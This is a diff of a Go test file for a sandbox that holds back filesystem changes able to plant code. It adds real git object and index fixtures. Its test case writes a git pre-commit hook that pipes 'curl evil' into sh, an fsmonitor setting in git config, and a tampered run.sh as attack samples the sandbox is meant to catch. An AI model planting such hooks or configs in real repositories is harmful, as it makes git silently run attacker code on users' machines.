@@ -1,7 +1,10 @@
 package execute_test
 
 import (
+	"bytes"
+	"compress/zlib"
 	"context"
+	"crypto/sha1"
 	"crypto/sha256"
 	"encoding/hex"
 	"errors"
@@ -645,6 +648,26 @@ func TestUndoPartial(t *testing.T) {
 	}
 }
 
+// Git data as git writes it, which the review checks (gitstate.go): a
+// loose object holding the blob "blob", under its name, and an index of
+// no entries (git rm -r --cached .), its checksum the SHA-1 of its header.
+var (
+	blobName, blobObject = func() (string, string) {
+		raw := "blob 4\x00blob"
+		var z bytes.Buffer
+		w := zlib.NewWriter(&z)
+		w.Write([]byte(raw))
+		w.Close()
+		sum := sha1.Sum([]byte(raw))
+		return hex.EncodeToString(sum[:]), z.String()
+	}()
+	emptyIndex = func() string {
+		hdr := "DIRC\x00\x00\x00\x02\x00\x00\x00\x00"
+		sum := sha1.Sum([]byte(hdr))
+		return hdr + string(sum[:])
+	}()
+)
+
 // plantingCase is issue 21's planting attack and its relatives, laid out
 // in an existing repository ~/Documents/proj: changes that plant code are
 // held, git's own data and ordinary files are applied.
@@ -664,9 +687,9 @@ func plantingCase(t *testing.T, s *sandbox, l *layer) (changes []sbx.Change, hel
 		l.dir(t, sbx.Created, "proj/.git/hooks", 0o755, 0),
 		l.file(t, sbx.Created, "proj/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755, 0),
 		l.file(t, sbx.Changed, "proj/.git/config", "[core]\n\tfsmonitor = evil\n", 0o644, 0o644),
-		l.dir(t, sbx.Created, "proj/.git/objects/ab", 0o755, 0),
-		l.file(t, sbx.Created, "proj/.git/objects/ab/cdef", "blob", 0o444, 0),
-		l.file(t, sbx.Changed, "proj/.git/index", "new index", 0o644, 0o644),
+		l.dir(t, sbx.Created, "proj/.git/objects/"+blobName[:2], 0o755, 0),
+		l.file(t, sbx.Created, "proj/.git/objects/"+blobName[:2]+"/"+blobName[2:], blobObject, 0o444, 0),
+		l.file(t, sbx.Changed, "proj/.git/index", emptyIndex, 0o644, 0o644),
 		l.file(t, sbx.Created, "proj/tool.sh", "#!/bin/sh\n", 0o755, 0),
 		l.file(t, sbx.Changed, "proj/build.sh", "#!/bin/sh\nmake all\n", 0o755, 0o755),
 		l.file(t, sbx.Changed, "proj/run.sh", "echo run; evil\n", 0o755, 0o644),
@@ -693,7 +716,7 @@ func plantingCase(t *testing.T, s *sandbox, l *layer) (changes []sbx.Change, hel
 		"proj/.envrc":              "a direnv file (run on entering the folder)",
 		"proj/conf/.gitattributes": "git attributes, which choose the filters and diff and merge drivers git runs",
 	}
-	applied = []string{"proj/.git/objects/ab", "proj/.git/objects/ab/cdef", "proj/.git/index",
+	applied = []string{"proj/.git/objects/" + blobName[:2], "proj/.git/objects/" + blobName[:2] + "/" + blobName[2:], "proj/.git/index",
 		"proj/.vscode", "proj/sub", "proj/sub/readme", "proj/conf", "proj/conf/a.txt"}
 	return changes, held, applied
 }
